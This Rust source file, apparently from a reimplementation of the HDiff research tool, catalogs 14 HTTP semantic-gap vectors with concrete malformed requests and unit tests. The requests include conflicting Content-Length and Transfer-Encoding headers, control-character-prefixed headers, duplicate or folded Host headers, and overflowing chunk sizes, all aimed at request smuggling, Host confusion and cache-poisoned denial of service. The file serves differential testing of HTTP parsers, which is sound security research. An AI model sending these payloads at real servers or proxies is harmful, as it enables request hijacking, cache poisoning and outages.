//! The attack-vector catalog — Table II of the paper, as executable data.
//!
//! Each entry names a semantic-gap vector, the message element it abuses,
//! the attack classes it can enable, and concrete example requests. The
//! catalog is what the `table2_attack_examples` harness regenerates, and
//! the differential engine uses it for targeted sweeps.

use std::fmt;

use hdiff_wire::{encode_chunked, Method, Request, Version};

/// The three semantic gap attacks HDiff detects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackClass {
    /// HTTP Request Smuggling.
    Hrs,
    /// Host of Troubles.
    Hot,
    /// Cache-Poisoned Denial of Service.
    Cpdos,
}

impl AttackClass {
    /// All classes.
    pub const ALL: [AttackClass; 3] = [AttackClass::Hrs, AttackClass::Hot, AttackClass::Cpdos];
}

impl fmt::Display for AttackClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackClass::Hrs => f.write_str("HRS"),
            AttackClass::Hot => f.write_str("HoT"),
            AttackClass::Cpdos => f.write_str("CPDoS"),
        }
    }
}

/// Which message element a catalog row abuses (Table II's first column).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FieldGroup {
    /// The request line.
    RequestLine,
    /// A header field.
    HeaderField,
    /// The message body.
    MessageBody,
}

impl fmt::Display for FieldGroup {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FieldGroup::RequestLine => f.write_str("Request-Line"),
            FieldGroup::HeaderField => f.write_str("Header-field"),
            FieldGroup::MessageBody => f.write_str("Message-body"),
        }
    }
}

/// One Table II row.
#[derive(Debug, Clone)]
pub struct CatalogEntry {
    /// Stable identifier (`invalid-http-version`).
    pub id: &'static str,
    /// The abused message element.
    pub group: FieldGroup,
    /// Table II's description column.
    pub description: &'static str,
    /// Attack classes this vector can enable.
    pub classes: Vec<AttackClass>,
    /// Concrete example requests (payload, note).
    pub requests: Vec<(Request, String)>,
}

fn req() -> hdiff_wire::RequestBuilder {
    let mut b = Request::builder();
    b.method(Method::Get).target("/").version(Version::Http11).header("Host", "h1.com");
    b
}

fn post_body(body: &[u8]) -> hdiff_wire::RequestBuilder {
    let mut b = Request::builder();
    b.method(Method::Post)
        .target("/")
        .version(Version::Http11)
        .header("Host", "h1.com")
        .body(body.to_vec());
    b
}

/// Builds the full Table II catalog (14 vectors, including the three the
/// paper reports as novel: HTTP-version HRS/CPDoS and the Expect header).
pub fn catalog() -> Vec<CatalogEntry> {
    let mut out = Vec::new();

    // ---- Request-Line ----------------------------------------------------
    out.push(CatalogEntry {
        id: "invalid-http-version",
        group: FieldGroup::RequestLine,
        description: "Invalid HTTP-version",
        classes: vec![AttackClass::Cpdos],
        requests: [b"1.1/HTTP".as_slice(), b"HTTP/3-1", b"hTTP/1.1"]
            .iter()
            .map(|v| {
                (req().version_raw(v).build(), format!("version={}", String::from_utf8_lossy(v)))
            })
            .collect(),
    });

    let shifted = vec![
        (req().version(Version::Http09).build(), "HTTP/0.9 with headers".to_string()),
        (
            post_body(&encode_chunked(b"abc"))
                .version(Version::Http10)
                .header("Transfer-Encoding", "chunked")
                .build(),
            "HTTP/1.0 with chunked".to_string(),
        ),
        (req().version(Version::Http20).build(), "HTTP/2.0 token".to_string()),
    ];
    out.push(CatalogEntry {
        id: "shifted-http-version",
        group: FieldGroup::RequestLine,
        description: "lower/higher HTTP-version",
        classes: vec![AttackClass::Hrs, AttackClass::Cpdos],
        requests: shifted,
    });

    let mut absuri = Vec::new();
    absuri.push((
        req().target("test://h2.com/?a=1").build(),
        "non-http scheme absolute-URI vs Host".to_string(),
    ));
    absuri.push((
        req().target("http://h1@h2.com/").build(),
        "userinfo in absolute-URI authority".to_string(),
    ));
    {
        let mut b = Request::builder();
        b.method(Method::Get).target("http://h2.com/").version(Version::Http11);
        absuri.push((b.build(), "http absolute-URI without Host header".to_string()));
    }
    out.push(CatalogEntry {
        id: "bad-absolute-uri",
        group: FieldGroup::RequestLine,
        description: "Bad absolute-URI vs Host",
        classes: vec![AttackClass::Hot],
        requests: absuri,
    });

    out.push(CatalogEntry {
        id: "fat-head-get",
        group: FieldGroup::RequestLine,
        description: "Fat HEAD/GET request",
        classes: vec![AttackClass::Hrs, AttackClass::Cpdos],
        requests: vec![
            (
                req().header("Content-Length", "17").body(b"GET /x HTTP/1.1\r\n".to_vec()).build(),
                "GET with message-body".to_string(),
            ),
            (
                {
                    let mut b = Request::builder();
                    b.method(Method::Head)
                        .target("/")
                        .version(Version::Http11)
                        .header("Host", "h1.com")
                        .header("Content-Length", "5")
                        .body(b"hello".to_vec());
                    b.build()
                },
                "HEAD with message-body".to_string(),
            ),
        ],
    });

    // ---- Header-field ----------------------------------------------------
    let mut invalid_clte = Vec::new();
    for (raw, note) in [
        (&b"Content-Length: +6"[..], "CL +6"),
        (b"Content-Length: 6,9", "CL 6,9"),
        (b"Content-Length:\x0b9", "CL [sc]9"),
        (b"Transfer-Encoding:\x0bchunked", "TE value [sc]chunked"),
        (b"Transfer-Encoding : chunked", "ws before colon TE"),
        (b"\x0bTransfer-Encoding: chunked", "[sc] before TE name"),
    ] {
        let is_te = note.contains("TE") || note.contains("colon");
        let body: Vec<u8> = if is_te { encode_chunked(b"smuggl") } else { b"smuggl".to_vec() };
        invalid_clte.push((
            {
                let mut b = Request::builder();
                b.method(Method::Post)
                    .target("/")
                    .version(Version::Http11)
                    .header("Host", "h1.com")
                    .header_raw(raw.to_vec())
                    .body(body);
                b.build()
            },
            note.to_string(),
        ));
    }
    out.push(CatalogEntry {
        id: "invalid-cl-te",
        group: FieldGroup::HeaderField,
        description: "Invalid CL/TE header",
        classes: vec![AttackClass::Hrs],
        requests: invalid_clte,
    });

    let mut multiple_clte = Vec::new();
    multiple_clte.push((
        post_body(b"0123456789")
            .header("Content-Length", "10")
            .header("Content-Length", "0")
            .build(),
        "two differing CL".to_string(),
    ));
    multiple_clte.push((
        {
            let mut b = Request::builder();
            b.method(Method::Post)
                .target("/")
                .version(Version::Http11)
                .header("Host", "h1.com")
                .header("Content-Length", "10")
                .header_raw(b"Transfer-Encoding\x0b: chunked".to_vec())
                .body(encode_chunked(b"x"));
            b.build()
        },
        "CL plus TE with [sc] before colon".to_string(),
    ));
    multiple_clte.push((
        post_body(&encode_chunked(b"x"))
            .header("Content-Length", "3")
            .header("Transfer-Encoding", "chunked")
            .build(),
        "plain CL plus TE".to_string(),
    ));
    multiple_clte.push((
        post_body(&encode_chunked(b"x"))
            .header("Transfer-Encoding", "chunked")
            .header("Transfer-Encoding", "chunked")
            .build(),
        "repeated Transfer-Encoding headers (CVE-2020-1944 class)".to_string(),
    ));
    out.push(CatalogEntry {
        id: "multiple-cl-te",
        group: FieldGroup::HeaderField,
        description: "Multiple CL/TE headers",
        classes: vec![AttackClass::Hrs],
        requests: multiple_clte,
    });

    let mut invalid_host = Vec::new();
    for (value, note) in [
        (&b"h1.com@h2.com"[..], "userinfo ambiguity"),
        (b"h1.com, h2.com", "comma list"),
        (b"h1.com/.//test?", "path-looking suffix"),
    ] {
        let mut b = Request::builder();
        b.method(Method::Get).target("/").version(Version::Http11).header("Host", value);
        invalid_host.push((b.build(), note.to_string()));
    }
    {
        let mut b = Request::builder();
        b.method(Method::Get)
            .target("/")
            .version(Version::Http11)
            .header_raw(b"Host\x0b: h1.com".to_vec());
        invalid_host.push((b.build(), "[sc] before colon in Host".to_string()));
    }
    out.push(CatalogEntry {
        id: "invalid-host",
        group: FieldGroup::HeaderField,
        description: "Invalid Host header",
        classes: vec![AttackClass::Hot, AttackClass::Cpdos],
        requests: invalid_host,
    });

    out.push(CatalogEntry {
        id: "multiple-host",
        group: FieldGroup::HeaderField,
        description: "Multiple Host headers",
        classes: vec![AttackClass::Hot],
        requests: vec![
            (
                {
                    let mut b = Request::builder();
                    b.method(Method::Get)
                        .target("/")
                        .version(Version::Http11)
                        .header_raw(b"\x0bHost: h1.com".to_vec())
                        .header("Host", "h2.com");
                    b.build()
                },
                "[sc]Host + Host".to_string(),
            ),
            (req().header("Host", "h2.com").build(), "two plain Host headers".to_string()),
        ],
    });

    out.push(CatalogEntry {
        id: "hop-by-hop",
        group: FieldGroup::HeaderField,
        description: "Hop-by-Hop headers",
        classes: vec![AttackClass::Cpdos],
        requests: vec![
            (
                req().header("Connection", "close, Host").build(),
                "Connection nominates Host for removal".to_string(),
            ),
            (
                req().header("Cookie", "session=1").header("Connection", "Cookie").build(),
                "Connection nominates Cookie".to_string(),
            ),
        ],
    });

    out.push(CatalogEntry {
        id: "expect",
        group: FieldGroup::HeaderField,
        description: "Expect header",
        classes: vec![AttackClass::Hrs, AttackClass::Cpdos],
        requests: vec![
            (
                req().header("Expect", "100-continue").build(),
                "Expect 100-continue in GET".to_string(),
            ),
            (
                req().header("Expect", "100-continuce").build(),
                "misspelled expectation value".to_string(),
            ),
        ],
    });

    out.push(CatalogEntry {
        id: "obs-fold-host",
        group: FieldGroup::HeaderField,
        description: "Obs-fold header",
        classes: vec![AttackClass::Hot],
        requests: vec![(
            {
                let mut b = Request::builder();
                b.method(Method::Get)
                    .target("/")
                    .version(Version::Http11)
                    .header_raw(b"Host: h1.com\r\n\th2.com".to_vec());
                b.build()
            },
            "obs-fold continuation carrying a second host".to_string(),
        )],
    });

    out.push(CatalogEntry {
        id: "obsolete-te",
        group: FieldGroup::HeaderField,
        description: "Obsoleted header or value",
        classes: vec![AttackClass::Hrs, AttackClass::Cpdos],
        requests: vec![(
            post_body(&encode_chunked(b"abc"))
                .header("Transfer-Encoding", "chunked, identity")
                .build(),
            "obsolete identity coding after chunked".to_string(),
        )],
    });

    // ---- Message-body ----------------------------------------------------
    out.push(CatalogEntry {
        id: "bad-chunk-size",
        group: FieldGroup::MessageBody,
        description: "Bad chunk-size value",
        classes: vec![AttackClass::Hrs],
        requests: vec![
            (
                post_body(b"1000000000000000a\r\nabc\r\n0\r\n\r\n")
                    .header("Transfer-Encoding", "chunked")
                    .build(),
                "overflowing chunk-size (wraps to 10)".to_string(),
            ),
            (
                post_body(b"0xfgh\r\nabc\r\n0\r\n\r\n")
                    .header("Transfer-Encoding", "chunked")
                    .build(),
                "invalid hex chunk-size 0xfgh".to_string(),
            ),
        ],
    });

    out.push(CatalogEntry {
        id: "nul-chunk-data",
        group: FieldGroup::MessageBody,
        description: "NULL in chunk-data",
        classes: vec![AttackClass::Hrs],
        requests: vec![(
            post_body(b"3\r\na\x00c\r\n0\r\n\r\n").header("Transfer-Encoding", "chunked").build(),
            "NUL byte inside chunk-data".to_string(),
        )],
    });

    out
}

/// Looks up a catalog entry by id.
pub fn entry(id: &str) -> Option<CatalogEntry> {
    catalog().into_iter().find(|e| e.id == id)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fourteen_vectors_like_table2() {
        let c = catalog();
        assert_eq!(c.len(), 14);
        // Every class is covered by at least one vector.
        for class in AttackClass::ALL {
            assert!(c.iter().any(|e| e.classes.contains(&class)), "{class}");
        }
    }

    #[test]
    fn every_entry_has_payloads() {
        for e in catalog() {
            assert!(!e.requests.is_empty(), "{} has no payloads", e.id);
            for (r, note) in &e.requests {
                assert!(!r.to_bytes().is_empty(), "{id}: {note}", id = e.id);
            }
        }
    }

    #[test]
    fn novel_vectors_present() {
        // The paper's three new attack vectors.
        for id in ["invalid-http-version", "shifted-http-version", "expect"] {
            assert!(entry(id).is_some(), "{id}");
        }
    }

    #[test]
    fn invalid_versions_serialize_verbatim() {
        let e = entry("invalid-http-version").unwrap();
        let all: Vec<Vec<u8>> = e.requests.iter().map(|(r, _)| r.to_bytes()).collect();
        assert!(all.iter().any(|b| b.windows(8).any(|w| w == b"1.1/HTTP")));
    }

    #[test]
    fn multiple_host_really_has_two_hosts() {
        let e = entry("multiple-host").unwrap();
        for (r, note) in &e.requests {
            // The [sc]Host variant is deliberately not a canonical Host
            // header — count raw occurrences of the name on the wire.
            let bytes = r.to_bytes();
            let hosts = bytes.windows(5).filter(|w| w.eq_ignore_ascii_case(b"Host:")).count();
            assert!(hosts >= 2, "{note}: {hosts} in {:?}", String::from_utf8_lossy(&bytes));
        }
    }

    #[test]
    fn groups_cover_table2_rows() {
        let c = catalog();
        assert!(c.iter().any(|e| e.group == FieldGroup::RequestLine));
        assert!(c.iter().any(|e| e.group == FieldGroup::HeaderField));
        assert!(c.iter().any(|e| e.group == FieldGroup::MessageBody));
    }
}
